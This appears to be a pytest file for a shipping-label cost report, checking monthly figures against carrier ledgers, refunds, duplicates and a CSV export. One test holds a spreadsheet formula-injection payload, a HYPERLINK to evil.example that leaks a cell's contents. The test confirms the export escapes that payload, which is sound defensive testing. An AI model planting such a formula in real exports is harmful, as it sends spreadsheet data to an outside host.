"""A month's report says what the carrier's own books say, to the cent."""

from __future__ import annotations

import csv
from collections.abc import Iterable
from dataclasses import replace
from datetime import datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest

from postwright.domain.cost_report import Cause, CostReport, Share
from postwright.domain.faults import BadInput, Environment, FaultKind
from postwright.domain.label_entry import LabelEntry
from postwright.domain.label_fate import Fate, Part
from postwright.domain.money import Money
from postwright.domain.month import Month
from postwright.domain.weight import Weight
from postwright.operations.follow_parcels import ask_about
from postwright.operations.look_at_refunds import look_at_refunds
from postwright.operations.report_costs import Office, export_month, report_costs
from postwright.operations.void_label import void_label
from postwright.store.costs import Costs
from tests.domain.samples import CUSTOMER, SHIPMENT
from tests.operations.shops import NOON, PRIORITY, Shop
from tests.rules import RULES

PORTLAND = ZoneInfo("America/Los_Angeles")
NOVEMBER = Month(2026, 11)


def office(shop: Shop) -> Office:
    return Office(Costs(shop.database), RULES, PORTLAND, shop.now)


def november(shop: Shop) -> CostReport:
    return report_costs(office(shop), NOVEMBER).report


def bought(shop: Shop, number: int, ounces: int = 12) -> LabelEntry:
    """A label for a customer of its own."""
    to = replace(CUSTOMER, name=f"Customer {number}", line1=f"{number} Elm Street")
    parcel = replace(SHIPMENT.parcel, weight=Weight.of(ounces=ounces))
    return shop.bought(replace(SHIPMENT, ship_to=to, parcel=parcel))


def void(shop: Shop, entry: LabelEntry) -> None:
    void_label(shop.till(), entry.id, now=shop.now())


def ask_usps(shop: Shop) -> None:
    for entry in shop.labels.recent():
        ask_about(shop.tracker(), entry.id)


def booked(shop: Shop, kind: str) -> Money:
    found = [abs(one.amount.minor) for one in shop.practice.ledger() if one.kind == kind]
    return Money(sum(found))


def lived(shop: Shop, **switches: Any) -> tuple[LabelEntry, ...]:
    """Used, voided, denied or credited, missed, bought twice: six labels and the weeks after."""
    shop.practice.set_switches(schema="2026", **switches)
    used, unused, missed = bought(shop, 1), bought(shop, 2, 40), bought(shop, 3, 64)
    first, second = bought(shop, 4), bought(shop, 4)
    shop.practice.mail(used.id)
    shop.practice.mail(first.id)
    void(shop, unused)
    shop.later(days=30)
    ask_usps(shop)
    look_at_refunds(shop.refund_desk())
    return used, unused, missed, first, second


def test_the_figures_are_those_of_the_carriers_books(shop: Shop) -> None:
    used, unused, missed, first, second = lived(shop)
    found = november(shop)
    assert found.paid == Share(5, booked(shop, "purchase"))
    assert found.parts[Part.CREDITED] == Share(1, booked(shop, "refund")) == Share(1, unused.label.cost)
    assert found.fates[Fate.USED] == Share(2, used.label.cost + first.label.cost)
    assert found.fates[Fate.MISSED] == Share(2, missed.label.cost + second.label.cost)
    assert found.causes[Cause.MISSED] == Share(1, missed.label.cost)
    assert found.causes[Cause.DUPLICATES] == Share(1, second.label.cost)
    assert (found.twins, found.is_final) == (Share(1, second.label.cost), True)
    assert found.lost == booked(shop, "purchase") - booked(shop, "refund") - found.fates[Fate.USED].amount


def test_a_refund_that_was_denied_is_a_loss(shop: Shop) -> None:
    _, unused, *_ = lived(shop, refund_decided="rejected")
    found = november(shop)
    assert found.parts[Part.DENIED] == found.causes[Cause.DENIED] == Share(1, unused.label.cost)
    assert booked(shop, "refund") == found.parts[Part.CREDITED].amount == Money(0)


def test_what_refund_assist_keeps_is_a_loss(shop: Shop) -> None:
    shop.practice.set_switches(schema="2026", refund_assist=True)
    entry = bought(shop, 1)
    shop.later(days=26 + 22)
    look_at_refunds(shop.refund_desk())
    found = november(shop)
    assert found.parts[Part.CREDITED].amount == booked(shop, "refund")
    assert found.lost == entry.label.cost - booked(shop, "refund")
    assert found.top is Cause.KEPT


def test_money_comes_back_in_the_month_in_which_it_is_credited(shop: Shop) -> None:
    lived(shop)
    december = report_costs(office(shop), Month(2026, 12)).report
    assert (november(shop).came_in, december.came_in) == (Share(), Share(1, booked(shop, "refund")))
    assert december.paid == Share()


def test_nothing_is_missed_until_usps_was_asked(shop: Shop) -> None:
    bought(shop, 1)
    shop.later(days=30)
    assert november(shop).fates[Fate.UNKNOWN].count == 1
    ask_usps(shop)
    assert november(shop).fates[Fate.MISSED].count == 1


def test_the_last_evening_of_a_month_belongs_to_it(shop: Shop) -> None:
    shop.practice.clock.freeze(datetime(2026, 11, 30, 23, 30, tzinfo=PORTLAND))
    shop.buy(shop.order(shipment=replace(SHIPMENT, ship_date=datetime(2026, 12, 1).date()), key=PRIORITY))
    shop.later(hours=2)
    assert november(shop).paid.count == 1
    assert report_costs(office(shop)).report.paid.count == 0


def test_the_months_before_stand_beside_it_the_oldest_first(shop: Shop) -> None:
    bought(shop, 1)
    shop.later(days=40)
    found = report_costs(office(shop))
    assert [str(one.month) for one in found.months] == [
        "2026-08", "2026-09", "2026-10", "2026-11", "2026-12", "2027-01",
    ]  # fmt: skip
    assert (found.report, str(found.first), str(found.latest)) == (found.months[-1], "2026-11", "2027-01")
    assert found.report.is_running
    assert not found.months[3].is_running


def test_a_shop_that_bought_nothing_has_a_report_of_nothing(shop: Shop) -> None:
    found = report_costs(office(shop))
    assert (found.report.paid, found.first, found.latest) == (Share(), NOVEMBER, NOVEMBER)


def test_a_month_that_has_not_begun_is_refused(shop: Shop, tmp_path: Path) -> None:
    for deed in (
        lambda: report_costs(office(shop), Month(2026, 12)),
        lambda: export_month(office(shop), Month(2026, 12), tmp_path / "month.csv"),
    ):
        with pytest.raises(BadInput) as caught:
            deed()
        assert caught.value.kind is FaultKind.MONTH_UNUSABLE


def test_copies_beyond_the_first_are_counted_by_reason(shop: Shop) -> None:
    assert Costs(shop.database).reprints(NOON, NOON + timedelta(days=1)).count == 0


def read(file: Path) -> list[dict[str, str]]:
    with open(file, encoding="utf-8-sig", newline="") as stream:
        return list(csv.DictReader(stream))


def cents(amounts: Iterable[str]) -> Money:
    return Money.of(sum((Decimal(one) for one in amounts if one), Decimal(0)))


def test_the_lines_of_the_table_add_up_to_the_report(shop: Shop, tmp_path: Path) -> None:
    lived(shop)
    file = tmp_path / "month.csv"
    assert export_month(office(shop), NOVEMBER, file) == f"Wrote 5 labels of November 2026 to {file}."
    lines, found = read(file), november(shop)
    assert cents(one["Paid"] for one in lines) == found.paid.amount
    missed = [one["Paid"] for one in lines if one["What became of it"] == "Missed"]
    assert cents(missed) == found.fates[Fate.MISSED].amount
    credited = [one["Came back or expected"] for one in lines if one["Refund"] == "Credited"]
    assert cents(credited) == found.parts[Part.CREDITED].amount
    assert [one["Second label"] for one in lines].count("yes") == found.twins.count


def test_no_name_in_the_table_is_a_formula(shop: Shop, tmp_path: Path) -> None:
    nasty = '=HYPERLINK("http://evil.example?"&A1,"x")'
    shop.bought(replace(SHIPMENT, ship_to=replace(CUSTOMER, name=nasty), order_reference="+1"))
    file = tmp_path / "month.csv"
    assert export_month(office(shop), NOVEMBER, file).startswith("Wrote 1 label of")
    (line,) = read(file)
    assert (line["To"], line["Order"]) == (f"'{nasty}", "'+1")


def test_a_table_that_cannot_be_written_is_told(shop: Shop, tmp_path: Path) -> None:
    with pytest.raises(Environment):
        export_month(office(shop), NOVEMBER, tmp_path / "nowhere" / "month.csv")
